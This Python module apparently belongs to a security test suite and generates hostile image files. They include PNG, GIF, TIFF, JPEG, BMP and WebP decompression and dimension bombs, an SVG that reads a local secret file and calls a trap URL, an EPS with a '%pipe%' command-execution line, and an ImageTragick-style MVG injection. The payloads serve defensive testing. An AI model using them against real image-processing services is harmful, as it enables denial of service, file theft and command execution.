"""Pictures that are larger than they look, lead elsewhere, or are not pictures at all."""

import struct
import zlib
from io import BytesIO
from pathlib import Path

from crafting import Bait, Crafted, Make, cut, data, text
from PIL import Image

_PNG = b"\x89PNG\r\n\x1a\n"
_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">
<image xlink:href="file://{secret}" width="64" height="64"/>
<image xlink:href="{trap}/a.png" width="9" height="9"/></svg>"""
_EPS = """%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 64 64
({secret}) (r) file 64 string readstring pop show
(%pipe%touch /tmp/evil) (w) file
%%EOF
"""
_MVG = """push graphic-context
viewbox 0 0 64 64
image over 0,0 0,0 '{trap}/x.png'
fill 'url({trap}/a"|touch "/tmp/evil)'
pop graphic-context
"""


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png(width: int, height: int, depth: int, colour: int, *more: bytes, rows: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return _PNG + _chunk(b"IHDR", head) + b"".join(more) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _bomb(path: Path, _bait: Bait) -> None:
    """Make 900 million pixels of one bit in a hundred kilobytes."""
    path.write_bytes(_png(30000, 30000, 1, 0, rows=zlib.compress(bytes(30000 * (1 + 30000 // 8)), 9)))


def _text_bomb(path: Path, _bait: Bait) -> None:
    """Make sixteen comments of 16 MB each."""
    note = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(16_000_000), 9))
    path.write_bytes(_png(1, 1, 8, 0, *[note] * 16, rows=zlib.compress(b"\0\0")))


def _profile_bomb(path: Path, _bait: Bait) -> None:
    note = _chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(200_000_000), 9))
    path.write_bytes(_png(1, 1, 8, 2, note, rows=zlib.compress(b"\0\0\0\0")))


def _profile_that_names_a_file(path: Path, bait: Bait) -> None:
    note = _chunk(b"tEXt", b"profile\0" + str(bait.secret).encode())
    path.write_bytes(_png(1, 1, 8, 0, note, rows=zlib.compress(b"\0\0")))


_FRAME = b"\x21\xf9\x04\x00\x00\x00\x00\x00" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"


def _gif(width: int, height: int, frames: int) -> bytes:
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return screen + _FRAME * frames + b"\x3b"


def _tiff(width: int, height: int, *, after: int) -> bytes:
    tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 200), (277, 3, 1)]
    tags += [(278, 4, height), (279, 4, 2**31 - 1)]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return (
        b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + struct.pack("<I", after) + bytes(99)
    )


def _good(kind: str) -> Make:
    def make(path: Path, _bait: Bait) -> None:
        buffer = BytesIO()
        Image.effect_noise((200, 150), 60).convert("RGB").save(buffer, kind)
        path.write_bytes(buffer.getvalue())

    return make


_JPEG_HEAD = (
    b"\xff\xd8\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65500, 65500, 3) + b"\1\x11\0\2\x11\0\3\x11\0" + b"\xff\xda"
)
_BMP_HEAD = b"BM" + struct.pack("<IHHIIiiHHIIiiII", 154, 0, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 100, 0, 0, 0, 0)
_WEBP_HEAD = b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + b"\xff" * 6

_KINDS = {"jpg": "JPEG", "png": "PNG", "gif": "GIF", "webp": "WEBP", "tiff": "TIFF", "avif": "AVIF"}
_CUT = [
    Crafted(f"cut-{int(share * 100)}.{suffix}", "picture", cut(_good(kind), share))
    for suffix, kind in (
        ("jpg", "JPEG"),
        ("png", "PNG"),
        ("gif", "GIF"),
        ("webp", "WEBP"),
        ("tiff", "TIFF"),
        ("avif", "AVIF"),
    )
    for share in (0.02, 0.6)
]

PICTURES = [
    Crafted("bomb.png", "picture", _bomb),
    Crafted("header-bomb.png", "picture", data(_png(60000, 60000, 8, 2, rows=zlib.compress(bytes(1000))))),
    Crafted("text-bomb.png", "picture", _text_bomb),
    Crafted("profile-bomb.png", "picture", _profile_bomb),
    Crafted("profile.png", "picture", _profile_that_names_a_file),
    Crafted("endless.gif", "picture", data(_gif(1, 1, 200_000))),
    Crafted("canvas.gif", "picture", data(_gif(65535, 65535, 2))),
    Crafted("vector.png", "picture", text(_SVG)),
    Crafted("vector.svg", "picture", text(_SVG)),
    Crafted("script.jpg", "picture", text(_EPS)),
    Crafted("script.eps", "picture", text(_EPS)),
    Crafted("delegate.png", "picture", text(_MVG)),
    Crafted("huge.jpg", "picture", data(_JPEG_HEAD)),
    Crafted("huge.bmp", "picture", data(_BMP_HEAD + bytes(100))),
    Crafted("huge.webp", "picture", data(_WEBP_HEAD + bytes(8))),
    Crafted("circle.tiff", "picture", data(_tiff(10, 10, after=8))),
    Crafted("huge.tiff", "picture", data(_tiff(2**31 - 1, 2**31 - 1, after=0))),
    *_CUT,
]
